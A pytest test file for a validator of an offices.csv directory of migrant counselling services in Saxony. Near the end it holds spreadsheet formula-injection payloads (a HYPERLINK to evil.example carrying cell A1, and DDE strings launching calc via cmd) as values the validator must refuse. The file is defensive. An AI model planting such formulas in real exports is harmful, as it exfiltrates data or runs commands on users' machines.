"""Tests of finder.directory: validation of offices.csv and loading it into a DataFrame."""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pandas as pd
import pytest
from helpers import make_offices_csv
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from finder.directory import (
    ADDED_COLUMNS,
    FORMULA_START_ALLOWED,
    OFFICE_COLUMNS,
    REQUIRED_COLUMNS,
    DirectoryError,
    Problem,
    complete_header,
    load_offices,
    validate_file,
)
from finder.errors import format_problems
from finder.hours import to_osm


def problems_of(path: Path) -> list[tuple[int, str]]:
    return [(p.line, p.field) for p in validate_file(path)]


def only_problem(path: Path) -> Problem:
    problems = validate_file(path)
    assert len(problems) == 1, problems
    return problems[0]


# --- valid files -----------------------------------------------------------------------------------


def test_minimal_valid_file_passes(tmp_path):
    path = make_offices_csv(tmp_path / "offices.csv", [{}, {}])
    assert validate_file(path) == []


def test_full_valid_row_passes(tmp_path):
    row = {
        "id": "mbe-caritas-dresden",
        "name": "Migrationsberatung (Dresden)",
        "provider": "Caritas",
        "kind": "JMD",
        "street": "Musterstraße 1",
        "postcode": "01067",
        "city": "Dresden",
        "district": "Dresden",
        "phone": "0351 493-5171; +49 371 488-3371",
        "email": "a.b@caritas-dresden.de, info@müller-beratung.de",
        "website": "https://www.caritas-dresden.de/hilfe?x=1#top",
        "languages": "de;en;ar;fa",
        "topics": "residence;asylum;work",
        "target_group": "12-27",
        "target_group_original": "junge Menschen, 12 bis 27",
        "opening_hours": "Mo 9-12",
        "source_url": "https://example.org/a | http://85.239.114.245/chemnitz/page",
        "source_date": "2021-06",
        "last_checked": "2026-11-28",
        "notes": 'Zitat: "offen"',
        "lat": "51.05",
        "lon": "13.74",
        "geocode_precision": "postcode",
        "geocode_source": "geonames-postcode",
    }
    path = make_offices_csv(tmp_path / "offices.csv", [row, {"district": "Sachsen", "postcode": "10115"}])
    assert validate_file(path) == []


def test_columns_in_any_order_and_bom_are_accepted(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{}], columns=tuple(reversed(OFFICE_COLUMNS)))
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert validate_file(path) == []


# --- file-level problems -----------------------------------------------------------------------------


def test_missing_columns_are_named(tmp_path):
    columns = tuple(c for c in OFFICE_COLUMNS if c not in ("kind", "notes"))
    path = make_offices_csv(tmp_path / "o.csv", [{}], columns=columns)
    problems = validate_file(path)
    assert {(p.line, p.field) for p in problems} == {(1, "kind"), (1, "notes")}
    messages = {p.field: p.message for p in problems}
    assert "required" in messages["kind"]
    assert "required" not in messages["notes"]
    assert set(REQUIRED_COLUMNS) <= set(OFFICE_COLUMNS)


def test_unknown_and_duplicate_columns(tmp_path):
    path = tmp_path / "o.csv"
    make_offices_csv(path, [{}], columns=(*OFFICE_COLUMNS, "extra", "id"))
    found = problems_of(path)
    assert (1, "extra") in found
    assert (1, "id") in found


def test_missing_file_and_empty_file(tmp_path):
    problem = only_problem(tmp_path / "nope.csv")
    assert (problem.line, problem.field) == (1, "file")
    (tmp_path / "empty.csv").write_text("")
    assert problems_of(tmp_path / "empty.csv") == [(1, "file")]


def test_unterminated_quote_is_reported_at_record_start(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{}, {}, {}])
    lines = path.read_text().splitlines(keepends=True)
    lines[2] = lines[2].replace("Office 2", '"Office 2', 1)
    path.write_text("".join(lines))
    problem = only_problem(path)
    assert (problem.line, problem.field) == (3, "row")
    assert "never closed" in problem.message


def test_garbage_after_closing_quote(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{}, {}])
    lines = path.read_text().splitlines(keepends=True)
    lines[1] = lines[1].replace("Office 1", '"Office" 1', 1)
    path.write_text("".join(lines))
    assert problems_of(path) == [(2, "row")]


def test_wrong_number_of_fields(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{}, {}])
    path.write_text(path.read_text() + "too,few\n\n")
    problem = only_problem(path)
    assert (problem.line, problem.field) == (4, "row")
    assert "2 fields" in problem.message


def test_invalid_utf8_is_reported_at_its_record_and_field(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{}, {"city": "Dresden-CITY"}])
    path.write_bytes(path.read_bytes().replace(b"CITY", b"\xff\xfe"))
    problem = only_problem(path)
    assert (problem.line, problem.field) == (3, "city")
    assert "UTF-8" in problem.message
    assert "\\xff" in str(problem)  # printable: no lone surrogates
    str(problem).encode("utf-8")
    with pytest.raises(DirectoryError):
        load_offices(path)


def test_latin1_file_is_rejected(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"city": "Görlitz"}])
    path.write_bytes(path.read_text(encoding="utf-8").encode("latin-1"))
    assert problems_of(path) == [(2, "city")]


# --- record-level problems ---------------------------------------------------------------------------


def test_duplicate_id_names_both_lines(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"id": "a"}, {"id": "b"}, {"id": "a"}])
    problem = only_problem(path)
    assert (problem.line, problem.field) == (4, "id")
    assert "line 2" in problem.message
    assert str(problem).startswith(f"{path}:4: id: ")


def test_empty_id_and_name_and_bad_slug(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"id": ""}, {"name": ""}, {"id": "Büro_1"}])
    assert problems_of(path) == [(2, "id"), (3, "name"), (4, "id")]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("kind", "XYZ"),
        ("kind", ""),
        ("kind", "mbe"),
        ("district", "Berlin"),
        ("district", ""),
        ("district", " Dresden"),
        ("topics", "residence;cooking"),
        ("topics", "residence;;work"),
        ("target_group", "children"),
        ("target_group", ""),
        ("languages", "de;xx"),
        ("languages", "DE"),
        ("languages", "deu"),
        ("geocode_precision", "exact"),
        ("interpreting", "ja"),
        ("interpreting", "Yes"),
        ("interpreting", "yes "),
        ("status", "open"),
        ("status", "Closed"),
        ("status", "possibly_closed"),
        ("opening_hours_osm", "Mo-Fr 9-12"),
        ("opening_hours_osm", "Mo-Fr 09:00-12:00; SH off"),
        ("opening_hours_osm", "Mo-Fr sunrise-12:00"),
    ],
)
def test_unknown_vocabulary_values(tmp_path, field, value):
    path = make_offices_csv(tmp_path / "o.csv", [{field: value}])
    assert problems_of(path) == [(2, field)]


def test_interpreting_status_and_structured_hours(tmp_path):
    rows = [
        {
            "interpreting": "yes",
            "status": "possibly closed",
            "opening_hours_osm": "Mo-Fr 09:00-12:00; PH off",
        },
        {"interpreting": "no", "status": "closed", "opening_hours_osm": "Tu[1] 15:00-17:00"},
        {"status": "active"},
        {"opening_hours_osm": "Mo 25:00-26:00", "status": "zu"},
    ]
    path = make_offices_csv(tmp_path / "o.csv", rows)
    messages = [str(p) for p in validate_file(path)]
    assert len(messages) == 2
    assert (
        messages[0]
        == f"{path}:5: status: unknown value 'zu' (one of active, possibly closed, closed, or blank)"
    )
    assert messages[1].startswith(
        f"{path}:5: opening_hours_osm: not valid OpenStreetMap opening_hours syntax"
    )
    assert messages[1].endswith("'Mo 25:00-26:00'")


def test_a_file_from_before_the_added_columns_still_loads(tmp_path):
    columns = tuple(c for c in OFFICE_COLUMNS if c not in ADDED_COLUMNS)
    path = make_offices_csv(tmp_path / "o.csv", [{"languages": "ar"}], columns=columns)
    assert validate_file(path) == []
    frame = load_offices(path)
    assert list(frame.columns[: len(OFFICE_COLUMNS)]) == list(OFFICE_COLUMNS)
    assert frame[list(ADDED_COLUMNS)].iloc[0].tolist() == ["", "", ""]
    assert complete_header(list(columns)) == list(OFFICE_COLUMNS)


@pytest.mark.parametrize("postcode", ["1067", "010671", "10115", "00123", "O1067", "٠١٠٦٧", "01067 "])
def test_bad_postcode_for_saxon_office(tmp_path, postcode):
    path = make_offices_csv(tmp_path / "o.csv", [{"postcode": postcode}])
    assert problems_of(path) == [(2, "postcode")]


def test_statewide_office_may_have_any_german_postcode(tmp_path):
    path = make_offices_csv(
        tmp_path / "o.csv",
        [{"district": "Sachsen", "postcode": "10115"}, {"district": "Sachsen", "postcode": "101"}],
    )
    assert problems_of(path) == [(3, "postcode")]


@pytest.mark.parametrize(
    "email",
    [
        "info",
        "info@",
        "@example.org",
        "a b@example.org",
        "info@example",
        "a..b@example.org",
        "x@exa_mple.org",
        "a@b.de;",
    ],
)
def test_bad_email(tmp_path, email):
    path = make_offices_csv(tmp_path / "o.csv", [{"email": email}])
    assert problems_of(path) == [(2, "email")]


@pytest.mark.parametrize("phone", ["call us", "12", "0351 12345 ext. 7", "0351 12345;"])
def test_bad_phone(tmp_path, phone):
    path = make_offices_csv(tmp_path / "o.csv", [{"phone": phone}])
    assert problems_of(path) == [(2, "phone")]


@pytest.mark.parametrize(
    "url",
    [
        "www.example.org",
        "ftp://example.org/x",
        "javascript:alert(1)",
        "https://",
        "https://example",
        "https://exa mple.org",
        "https://user@example.org/",
        "https://example.org:99999/",
        "http://[::1",
        'https://example.org/"x"',
        "https://example.org/a|b",
    ],
)
def test_bad_website(tmp_path, url):
    path = make_offices_csv(tmp_path / "o.csv", [{"website": url}])
    assert problems_of(path) == [(2, "website")]


def test_missing_scheme_message_says_so(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"website": "she-leipzig.de"}])
    assert "http://" in only_problem(path).message


@pytest.mark.parametrize(
    "source_url",
    [
        "",
        "https://a.org/x|https://b.org/y",
        "https://a.org/x | ",
        "https://a.org/x | b.org",
        "https://a.org/ x",
    ],
)
def test_bad_source_url(tmp_path, source_url):
    path = make_offices_csv(tmp_path / "o.csv", [{"source_url": source_url}])
    assert problems_of(path) == [(2, "source_url")]


@pytest.mark.parametrize(
    "field",
    ["name", "notes", "opening_hours", "street", "provider", "target_group_original", "geocode_source"],
)
def test_html_markup_is_flagged(tmp_path, field):
    path = make_offices_csv(tmp_path / "o.csv", [{field: 'Hallo <a href="x">hier</a>'}])
    problem = only_problem(path)
    assert (problem.line, problem.field) == (2, field)
    assert "contains HTML markup" in problem.message


def test_angle_brackets_that_are_not_tags_pass(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"notes": "Alter < 27 und > 12; 3<4"}])
    assert validate_file(path) == []


def test_control_characters_are_flagged(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"notes": "a\x00b"}])
    assert problems_of(path) == [(2, "notes")]


@pytest.mark.parametrize(
    ("field", "value", "ok"),
    [
        ("source_date", "2020", True),
        ("source_date", "2020-02", True),
        ("source_date", "2020-02-29", True),
        ("source_date", "2021-02-29", False),
        ("source_date", "2020-13", False),
        ("source_date", "20", False),
        ("source_date", "März 2020", False),
        ("source_date", "2020/02/01", False),
        ("last_checked", "2026-11-28", True),
        ("last_checked", "2026-11", False),
        ("last_checked", "2026", False),
        ("last_checked", "2026-11-31", False),
    ],
)
def test_dates(tmp_path, field, value, ok):
    path = make_offices_csv(tmp_path / "o.csv", [{field: value}])
    assert problems_of(path) == ([] if ok else [(2, field)])


def located(lat: str, lon: str, precision: str = "place") -> dict[str, str]:
    return {"lat": lat, "lon": lon, "geocode_precision": precision, "geocode_source": "geonames-place"}


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (located("51.05", "13.74"), []),
        (located("52.52", "13.40"), ["lat"]),  # Berlin
        (located("51.05", "10.0"), ["lon"]),  # Thuringia (west)
        (located("51.05", "15.5"), ["lon"]),  # Poland (east)
        (located("50.0", "13.74"), ["lat"]),  # Czechia (south)
        (located("51.05", ""), ["lon"]),
        (located("", "13.74"), ["lat", "geocode_precision"]),
        (located("", "13.74", ""), ["lat"]),
        (located("51,05", "13.74"), ["lat"]),
        (located("nan", "13.74"), ["lat"]),
        (located("inf", "13.74"), ["lat"]),
        (located("51.05", "13.74", ""), ["geocode_precision"]),
        (located("", "", "street"), ["geocode_precision"]),
        (located("", "", ""), []),
    ],
)
def test_locations(tmp_path, row, expected):
    path = make_offices_csv(tmp_path / "o.csv", [row])
    assert [field for _, field in problems_of(path)] == expected


def test_multiline_field_shifts_line_numbers(tmp_path):
    path = make_offices_csv(
        tmp_path / "o.csv",
        [
            {"notes": "erste Zeile\nzweite Zeile\r\ndritte"},
            {"kind": "NOPE"},
            {"notes": "x\ny"},
            {"id": "BAD"},
        ],
    )
    # header 1; record 1 spans lines 2-4; record 2 is line 5; record 3 spans 6-7; record 4 is line 8.
    assert problems_of(path) == [(5, "kind"), (8, "id")]


def test_crlf_line_ends_count_like_lf(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"notes": "a\nb"}, {"kind": "NOPE"}])
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    assert problems_of(path) == [(4, "kind")]


def test_carriage_return_in_unquoted_field_is_a_problem(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"city": "Dresden"}, {}])
    path.write_bytes(path.read_bytes().replace(b"Dresden,Dresden", b"Dres\rden,Dresden"))
    problem = only_problem(path)
    assert (problem.line, problem.field) == (2, "row")
    assert "carriage return" in problem.message


def test_several_problems_in_one_row_are_all_reported(tmp_path):
    path = make_offices_csv(tmp_path / "o.csv", [{"kind": "X", "district": "Y", "email": "z"}])
    assert problems_of(path) == [(2, "kind"), (2, "district"), (2, "email")]


# --- loading -----------------------------------------------------------------------------------------


def test_load_offices_parses_columns(tmp_path):
    path = make_offices_csv(
        tmp_path / "o.csv",
        [
            {
                "id": "a",
                "languages": "de; en;ar",
                "topics": "residence;asylum",
                "source_url": "https://a.org/1 | https://b.org/2",
                "source_date": "2019-05-02",
                "postcode": "01067",
                **located("51.05", "13.74", "postcode"),
            },
            {"id": "b", "district": "Sachsen", "topics": "", "source_date": "", "notes": "NA"},
            {"id": "c", "source_date": "2015-03"},
        ],
    )
    frame = load_offices(path)
    assert list(frame.columns[: len(OFFICE_COLUMNS)]) == list(OFFICE_COLUMNS)
    assert frame["id"].tolist() == ["a", "b", "c"]
    assert frame["languages_list"].tolist() == [["de", "en", "ar"], [], []]
    assert frame["topics_list"].tolist() == [["residence", "asylum"], [], ["residence"]]
    default_source = ["https://example.org/x"]
    assert frame["source_urls"].tolist() == [
        ["https://a.org/1", "https://b.org/2"],
        default_source,
        default_source,
    ]
    assert frame["lat"].iloc[0] == pytest.approx(51.05)
    assert math.isnan(frame["lon"].iloc[1])
    assert frame["has_location"].tolist() == [True, False, False]
    assert frame["language_stated"].tolist() == [True, False, False]
    assert frame["statewide"].tolist() == [False, True, False]
    assert str(frame["source_year"].dtype) == "Int64"
    assert frame["source_year"].iloc[0] == 2019
    assert frame["source_year"].iloc[2] == 2015
    assert pd.isna(frame["source_year"].iloc[1])
    # Blank stays "", and "NA" stays text (no NA conversion); postcodes keep their leading zero.
    assert frame["notes"].tolist() == ["", "NA", ""]
    assert frame["postcode"].iloc[0] == "01067"
    assert frame["has_location"].dtype == bool


def test_load_offices_empty_directory(tmp_path):
    frame = load_offices(make_offices_csv(tmp_path / "o.csv", []))
    assert len(frame) == 0
    assert "topics_list" in frame.columns


def test_load_offices_raises_with_problems(tmp_path):
    rows = [{"kind": "X"} for _ in range(25)]
    path = make_offices_csv(tmp_path / "o.csv", rows)
    with pytest.raises(DirectoryError) as info:
        load_offices(path)
    error = info.value
    assert isinstance(error, ValueError)
    assert len(error.problems) == 25
    assert error.problems[0] == Problem(str(path), 2, "kind", error.problems[0].message)
    lines = str(error).splitlines()
    assert len(lines) == 21
    assert lines[-1] == "… and 5 more"
    assert lines[0] == str(error.problems[0])


def test_load_offices_default_path_comes_from_settings(tmp_path, monkeypatch):
    make_offices_csv(tmp_path / "offices.csv", [{"id": "from-settings"}])
    monkeypatch.setenv("FINDER_DATA_DIR", str(tmp_path))
    assert load_offices()["id"].tolist() == ["from-settings"]


def test_format_problems_without_overflow():
    problems = [Problem("f.csv", 2, "id", "bad")]
    assert format_problems(problems) == "f.csv:2: id: bad"


# --- the testing helper ------------------------------------------------------------------------------


def test_make_offices_csv_rejects_unknown_fields(tmp_path):
    with pytest.raises(ValueError, match="colour"):
        make_offices_csv(tmp_path / "o.csv", [{"colour": "red"}])


def test_make_offices_csv_writes_defaults_and_accepts_a_folder(tmp_path):
    path = make_offices_csv(tmp_path, [{}])
    assert path == tmp_path / "offices.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["kind"] == "MBE"
    assert row["district"] == "Dresden"
    assert row["topics"] == "residence"
    assert row["target_group"] == "all"
    assert row["email"] == ""


# --- robustness --------------------------------------------------------------------------------------


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(OFFICE_COLUMNS), value=st.text())
def test_arbitrary_text_in_any_field_never_raises(tmp_path, field, value):
    path = make_offices_csv(tmp_path / "o.csv", [{}, {field: value}])
    problems = validate_file(path)
    # The first row is valid, so every problem belongs to the second record, which starts on line 3.
    assert all(isinstance(p, Problem) and p.line == 3 for p in problems)
    for problem in problems:
        str(problem).encode("utf-8")  # printable


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(tail=st.binary(max_size=300))
def test_arbitrary_bytes_never_raise(tmp_path, tail):
    path = make_offices_csv(tmp_path / "o.csv", [{}])
    path.write_bytes(path.read_bytes() + tail)
    problems = validate_file(path)
    assert all(isinstance(p, Problem) for p in problems)
    for problem in problems:
        str(problem).encode("utf-8")
    if problems:
        with pytest.raises(DirectoryError):
            load_offices(path)
    else:
        assert isinstance(load_offices(path), pd.DataFrame)


# --- the shared input rules (finder.rules) ----------------------------------------------------------


@pytest.mark.parametrize(
    "office_id",
    ["-abc", "a" * 101, "Caritas", "mbe_dresden", "mbe dresden", "mbé"],
)
def test_ids_that_share_links_would_refuse_are_refused(tmp_path, office_id):
    problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{"id": office_id}]))
    assert (problem.line, problem.field) == (2, "id")


def test_longest_id_passes(tmp_path):
    assert validate_file(make_offices_csv(tmp_path / "o.csv", [{"id": "a" * 100}])) == []


@pytest.mark.parametrize("control", ["\x1b", "\x85", "\x9b", "\x00"])
def test_c0_and_c1_control_characters_are_refused(tmp_path, control):
    problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{"notes": f"a{control}b"}]))
    assert problem.field == "notes" and "control characters" in problem.message


# --- spreadsheet formulas and bidi controls (review D3, D11) ----------------------------------------

# The values of the review's 12_formula.csv, each in the field it was found in.
REVIEW_FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")',
    "provider": "+cmd|' /C calc'!A0",
    "opening_hours": "-2+3+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "target_group_original": "\t=1+1",
    "street": "=1+1",
}


# Columns whose only rules are the generic ones (no format of their own).
FREE_TEXT = ("name", "provider", "street", "city", "target_group_original", "opening_hours", "notes",
             "geocode_source")  # fmt: skip


def formula_problems(path: Path) -> list[tuple[int, str]]:
    return [(p.line, p.field) for p in validate_file(path) if "spreadsheet formula" in p.message]


@pytest.mark.parametrize(("column", "value"), REVIEW_FORMULAS.items())
def test_review_formulas_are_refused(tmp_path, column, value):
    problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{column: value}]))
    assert (problem.line, problem.field) == (2, column)
    assert "spreadsheet formula" in problem.message


def test_every_column_refuses_a_formula_with_one_message(tmp_path):
    # One row per column, each with "=1+1" there: every row is refused for that column, with one message.
    rows = [{column: "=1+1"} for column in OFFICE_COLUMNS]
    path = make_offices_csv(tmp_path / "o.csv", rows)
    by_line = {}
    for problem in validate_file(path):
        by_line.setdefault(problem.line, []).append(problem)
    for line, column in enumerate(OFFICE_COLUMNS, start=2):
        fields = [p.field for p in by_line[line]]
        if column in ("lat", "lon"):  # and messages about the missing other coordinate and precision
            assert fields.count(column) == 1, by_line[line]
        else:
            assert fields == [column], by_line[line]
        # Columns without a format of their own say why; the others say what format they expect.
        if column in FREE_TEXT:
            assert "spreadsheet formula" in by_line[line][0].message


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", " =", "  @"])
def test_every_formula_start_is_refused_in_free_text(tmp_path, start):
    path = make_offices_csv(tmp_path / "o.csv", [{"city": f"{start}Dresden"}])
    assert formula_problems(path) == [(2, "city")]


@pytest.mark.parametrize("value", ["\rDresden", "Mo 9-12\r=1+1", "a\rb\r\nc"])
def test_a_carriage_return_that_ends_no_line_is_refused(tmp_path, value):
    # Quoted by hand: the csv module leaves a lone CR unquoted, and a spreadsheet starts a new row there.
    # (CRLF inside a quoted field is a line break: test_multiline_field_shifts_line_numbers.)
    path = make_offices_csv(tmp_path / "o.csv", [{"notes": "NOTES"}])
    path.write_bytes(path.read_bytes().replace(b"NOTES", f'"{value}"'.encode()))
    problem = only_problem(path)
    assert (problem.line, problem.field) == (2, "notes") and "carriage return" in problem.message


def test_allowed_leading_characters_are_data_driven(tmp_path):
    assert FORMULA_START_ALLOWED["phone"] == "+"
    rows = [{"phone": "+49 351 1234-5"}, {"lat": "-51.05", "lon": "-13.74", "geocode_precision": "place"}]
    path = make_offices_csv(tmp_path / "o.csv", rows)
    # The coordinates are refused as outside Saxony, not as formulas; the phone number is fine.
    assert formula_problems(path) == []
    assert problems_of(path) == [(3, "lat"), (3, "lon")]
    # A formula disguised as a phone number still fails the phone rule.
    path = make_offices_csv(tmp_path / "p.csv", [{"phone": "+cmd|' /C calc'!A0"}])
    assert only_problem(path).field == "phone"
    assert only_problem(make_offices_csv(tmp_path / "q.csv", [{"phone": "=0351 1234"}])).field == "phone"


def test_dashes_and_signs_inside_a_value_are_fine(tmp_path):
    rows = [{"opening_hours": "Mo-Fr 9-12 Uhr; Di +Do 14-16", "notes": "Haus B - 2. Stock, E-Mail @ Empfang",
             "name": "Beratung für Frauen (+ Kinder)", "street": "Str. des 17. Juni 1"}]  # fmt: skip
    assert validate_file(make_offices_csv(tmp_path / "o.csv", rows)) == []


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    column=st.sampled_from(FREE_TEXT),
    start=st.sampled_from("=+-@\t"),  # CR: see test_every_formula_start_is_refused_in_free_text
    rest=st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"), max_size=40
    ),
)
def test_any_formula_start_in_free_text_is_refused(tmp_path, column, start, rest):
    path = make_offices_csv(tmp_path / "o.csv", [{column: start + rest}])
    # Refused: as a formula, or for a control character or markup in ``rest`` (one message per value).
    assert (2, column) in problems_of(path)


@pytest.mark.parametrize("control", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))])
def test_bidi_controls_are_refused(tmp_path, control):
    problem = only_problem(make_offices_csv(tmp_path / "o.csv", [{"name": f"A{control}evil"}]))
    assert problem.field == "name" and "bidi" in problem.message
    assert f"\\u{ord(control):04x}" in problem.message  # shown escaped, not applied to the message


def test_bidi_marks_in_arabic_and_persian_text_are_fine(tmp_path):
    # LRM/RLM/ALM settle where brackets and digits go in mixed-direction text; ZWNJ joins Persian letters.
    rows = [{"name": "مرکز مشاوره\u200c ها (Dresden)\u200f", "notes": "\u200eMBE\u200e مركز \u061c(2)"}]
    assert validate_file(make_offices_csv(tmp_path / "o.csv", rows)) == []


def test_the_directory_keeps_structured_hours_with_their_text():
    # Where the text reads safely, the column holds what it reads as; elsewhere blank (or a maintainer's
    # value that finder validate accepts). Counted for the closing note of issue 9.
    frame = load_offices()
    with_text = frame[frame["opening_hours"].str.strip() != ""]
    derived = with_text["opening_hours"].map(lambda text: to_osm(text) or "")
    readable = derived != ""
    assert (with_text.loc[readable, "opening_hours_osm"] == derived[readable]).all()
    assert (frame.loc[frame["opening_hours"].str.strip() == "", "opening_hours_osm"] == "").all()
    assert 0 < readable.sum() < len(with_text)
